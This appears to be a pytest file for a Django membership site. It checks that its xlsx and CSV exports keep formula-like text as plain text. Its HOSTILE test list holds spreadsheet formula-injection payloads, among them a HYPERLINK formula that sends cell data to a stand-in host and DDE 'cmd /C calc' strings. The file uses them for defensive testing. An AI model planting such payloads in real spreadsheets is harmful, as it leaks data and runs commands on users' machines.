"""No data the site writes into a spreadsheet ever becomes a formula (issue 12.1).

Each workbook the site produces (the member export, the 4-HHĐ/4B-HHĐ lists from the admin and
from ``manage.py badge_list``, the ratings export) is opened with openpyxl: no cell holds a
formula, and the hostile text is there, unchanged, as text.
"""

import io
from datetime import date

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from awards.models import BadgeRound
from core import spreadsheets
from members.models import Member
from tests.awards.factories import RatingFactory
from tests.members.factories import MemberFactory, PartyCellFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://ke-xau.example/?x="&D9&E9,"Xem hồ sơ")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def formula_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(content: bytes) -> set:
    workbook = load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


@pytest.fixture
def hostile_members():
    cell = PartyCellFactory(name="Chi bộ Viễn thông")
    # Created without clean(): data that came in before names were checked, or by another path.
    return [
        MemberFactory(full_name=text, hometown=HOSTILE[0], cell=cell, admission_date=date(1990, 1, 1))
        for text in HOSTILE
    ]


def test_helper_keeps_formula_like_text_as_text():
    workbook = Workbook()
    sheet = workbook.active
    spreadsheets.append_row(sheet, HOSTILE)
    spreadsheets.set_cell(sheet, 2, 1, "=2*3")
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert formula_cells(buffer.getvalue()) == []
    assert set(HOSTILE) | {"=2*3"} <= texts(buffer.getvalue())
    assert spreadsheets.csv_safe("=1+1") == "'=1+1"
    assert spreadsheets.csv_safe("\t=1") == "'\t=1"
    assert spreadsheets.csv_safe("Nguyễn Văn An") == "Nguyễn Văn An"


def test_member_export_has_no_formula_cell(client, office, hostile_members):
    client.force_login(office)
    response = client.post("/quan-tri/members/member/export/")
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    assert set(HOSTILE) <= texts(response.content)


def test_badge_list_xlsx_from_the_admin_has_no_formula_cell(client, office, hostile_members):
    round_ = BadgeRound.objects.create(date=date(2027, 2, 3))
    client.force_login(office)
    response = client.post(f"/quan-tri/awards/badgeround/{round_.pk}/xlsx/")
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    assert set(HOSTILE) <= texts(response.content)


def test_badge_list_command_xlsx_has_no_formula_cell(tmp_path, hostile_members):
    target = tmp_path / "ds.xlsx"
    call_command("badge_list", "--round", "2027-02-03", "--xlsx", str(target), stdout=io.StringIO())
    content = target.read_bytes()
    assert formula_cells(content) == []
    assert set(HOSTILE) <= texts(content)


def test_ratings_export_has_no_formula_cell(client, office, hostile_members):
    for member, text in zip(hostile_members, HOSTILE, strict=True):
        RatingFactory(member=member, year=2024, note=text)
    client.force_login(office)
    response = client.post("/quan-tri/awards/qualityrating/xuat/2024/")
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    assert set(HOSTILE) <= texts(response.content)


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x")', "+Nguyễn Văn An", "-Trần Thị Bình", "@Lê Văn Cường", "\t=1+1"]
)
def test_a_name_that_starts_like_a_formula_is_refused_with_a_vietnamese_message(name):
    member = Member(full_name=name, admission_date=date(1990, 1, 1), cell=PartyCellFactory())
    with pytest.raises(ValidationError) as caught:
        member.full_clean()
    assert "Họ và tên không được bắt đầu bằng dấu =, +, - hoặc @." in caught.value.message_dict["full_name"]


def test_an_ordinary_name_with_a_hyphen_inside_is_accepted():
    Member(full_name="Nguyễn Thị Mai-Anh", admission_date=date(1990, 1, 1), cell=PartyCellFactory()).full_clean()


def test_a_csv_export_through_the_admin_mixin_prefixes_formula_like_fields(office, hostile_members):
    from django.test import RequestFactory
    from import_export.formats.base_formats import CSV

    from tests.partysite.test_audit import test_site

    request = RequestFactory().get("/")
    request.user = office
    model_admin = test_site._registry[Member]
    text = model_admin.get_export_data(CSV(), request, Member.objects.all(), encoding="utf-8").decode("utf-8")
    lines = text.splitlines()[1:]
    assert lines and all(line.split(",")[1].startswith(("'", "\"'")) for line in lines), lines
    assert "'=1+1" in text and "'+84 912 345 678" in text and "'@SUM" in text
